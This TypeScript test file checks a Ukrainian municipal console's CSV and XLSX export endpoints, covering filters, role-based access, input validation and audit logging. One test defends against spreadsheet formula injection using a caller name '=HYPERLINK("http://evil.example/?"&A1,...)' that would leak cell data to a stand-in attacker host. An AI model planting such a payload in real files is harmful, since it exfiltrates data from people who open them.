import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { body, startTestApp } from '../setup/app';

describe('exports: every console list to CSV (UTF-8 BOM, ;) and XLSX, with its filters, without a page limit', async () => {
  const t = await startTestApp();
  const admin = await t.login({ role: 'admin' });
  const agent = await t.login({ role: 'agent' });
  const sql = t.db.dataSource;
  const [{ id: citizen }] = await sql.query(`INSERT INTO citizens (full_name) VALUES ('Шевченко Тарас; "Кобзар"') RETURNING id`);
  await sql.query(`INSERT INTO citizen_phones (citizen_id, phone) VALUES ($1, '+380671112233')`, [citizen]);
  await sql.query(`
    INSERT INTO requests (number, received_at, source, topic_code, description, status, citizen_id, due_at)
    SELECT '2021-' || lpad(i::text, 6, '0'), now() - i * interval '1 minute', CASE WHEN i % 2 = 0 THEN 'call' ELSE 'written' END,
           'HS.06', 'Протікає дах, під’їзд ' || i, CASE WHEN i % 3 = 0 THEN 'done' ELSE 'assigned' END, $1,
           CASE WHEN i <= 5 THEN now() - interval '2 days' ELSE now() + interval '10 days' END
      FROM generate_series(1, 450) i`, [citizen]);
  await sql.query(`INSERT INTO calls (id, caller_number, queue, agent_user_id, queued_at, outcome) VALUES ('c-1', '+380671112233', 'support', $1, now(), 'answered'), ('c-2', '+380501112233', 'support', NULL, now(), 'abandoned')`, [agent.user.id]);
  const csv = async (path: string, cookie = admin.cookie) => {
    const res = await t.fetch(path, { cookie });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    return bytes.subarray(3).toString('utf8').trimEnd().split('\r\n');
  };

  it('when the requests list is exported with a filter, then every matching row comes, past any page size, in Ukrainian', async () => {
    const lines = await csv('/api/exports/requests.csv?source=written');
    expect(lines[0].split(';').slice(0, 3)).toEqual(['Номер', 'Надійшла', 'Стан']);
    expect(lines).toHaveLength(1 + 225);
    expect(lines[1]).toContain('"Шевченко Тарас; ""Кобзар"""');
    expect(lines[1]).toContain('Протікає дах, під’їзд 1');
  });

  it('when the overdue and callback lists are exported, then their filters hold', async () => {
    expect(await csv('/api/exports/requests.csv?overdue=true')).toHaveLength(1 + 4); // 1, 2, 4, 5 are working; 3 is done
    expect(await csv('/api/exports/requests.csv?status=done')).toHaveLength(1 + 150);
  });

  it('when the list is exported as XLSX, then the workbook holds the same rows', async () => {
    const res = await t.fetch('/api/exports/requests.xlsx?source=call', { cookie: admin.cookie });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = wb.worksheets[0];
    expect(ws.rowCount).toBe(1 + 225);
    expect(ws.getRow(2).getCell(1).value).toBe('2021-000002');
  });

  it('when the audit log and the calls are exported, then admins and supervisors get all, and the export is audited', async () => {
    const audit = await csv('/api/exports/audit.csv?entity=request');
    expect(audit[0]).toBe('№;Час;Користувач;Дія;Об’єкт;Ідентифікатор;IP;Подробиці');
    expect(audit.slice(1).every((l) => l.split(';')[4] === 'request')).toBe(true);
    expect(audit.length).toBeGreaterThan(1);
    expect(await csv('/api/exports/calls.csv')).toHaveLength(3);
    const supervisor = await t.login({ role: 'supervisor' });
    expect(await csv('/api/exports/calls.csv', supervisor.cookie)).toHaveLength(3);
    const [{ n }] = await sql.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'export' AND entity = 'request' AND user_id = $1`, [admin.user.id]);
    expect(n).toBeGreaterThan(0);
  });

  it('when an export is asked for a day that does not exist or an id out of range, then 400 before any row is sent', async () => {
    for (const path of ['/api/exports/calls.csv?from=2026-02-31', '/api/exports/calls.xlsx?to=0001-01-01', '/api/exports/audit.csv?userId=3000000000']) {
      const res = await t.fetch(path, { cookie: admin.cookie });
      expect(res.status, path).toBe(400);
      expect(((await res.json()) as { error: { code: string } }).error.code, path).toBe('invalid_input');
    }
  });

  it('when an executor exports, then only their organisation\'s requests come, in their view', async () => {
    const [{ id: exec }] = await sql.query(`SELECT id FROM executors WHERE code = 'WATER'`);
    await sql.query(`UPDATE requests SET executor_id = $1, address = 'вул. Тиха, 1' WHERE number IN ('2021-000007', '2021-000008')`, [exec]);
    const executor = await t.login({ role: 'executor', executor: 'WATER' });
    const lines = await csv('/api/exports/requests.csv', executor.cookie);
    expect(lines.slice(1).map((l) => l.split(';')[0]).sort()).toEqual(['2021-000007', '2021-000008']);
  });

  it('when an agent asks for a whole list of personal data, then 403, and their list reads stay paged', async () => {
    for (const path of ['/api/exports/requests.csv', '/api/exports/requests.xlsx', '/api/exports/calls.csv', '/api/exports/calls.xlsx']) {
      const res = await t.fetch(path, { cookie: agent.cookie });
      expect(res.status, path).toBe(403);
      expect((await body(res)).error.code, path).toBe('forbidden');
    }
    const executor = await t.login({ role: 'executor', executor: 'WATER' });
    expect((await t.fetch('/api/exports/calls.csv', { cookie: executor.cookie })).status).toBe(403);
    const whole = await t.fetch('/api/requests?pageSize=30000', { cookie: agent.cookie });
    expect(whole.status).toBe(400);
    expect((await body(whole)).error.fields).toHaveProperty('pageSize');
  });

  it('when a caller named themselves with a formula, then the CSV cell is text and the XLSX cell is a string, never a formula', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Натисніть")';
    await sql.query(`INSERT INTO calls (id, caller_number, caller_name, queue, queued_at, outcome) VALUES ('c-evil', '+380671110000', $1, 'support', now() + interval '1 hour', 'abandoned')`, [evil]);
    const lines = await csv('/api/exports/calls.csv');
    const row = lines.find((l) => l.startsWith('c-evil'))!;
    expect(row).toContain(`"'${evil.replace(/"/g, '""')}"`);
    expect(row.split(';')[3]).toBe("'+380671110000");
    const res = await t.fetch('/api/exports/calls.xlsx', { cookie: admin.cookie });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const cell = wb.worksheets[0].getRow(2).getCell(5);
    expect(cell.value).toBe(evil);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    await sql.query(`DELETE FROM calls WHERE id = 'c-evil'`);
  });

  it('when an agent exports the audit log, or the format is not csv or xlsx, then 403 and 400', async () => {
    expect((await t.fetch('/api/exports/audit.csv', { cookie: agent.cookie })).status).toBe(403);
    const bad = await t.fetch('/api/exports/requests.pdf', { cookie: admin.cookie });
    expect(bad.status).toBe(400);
    expect((await body(bad)).error.fields).toHaveProperty('format');
  });
});
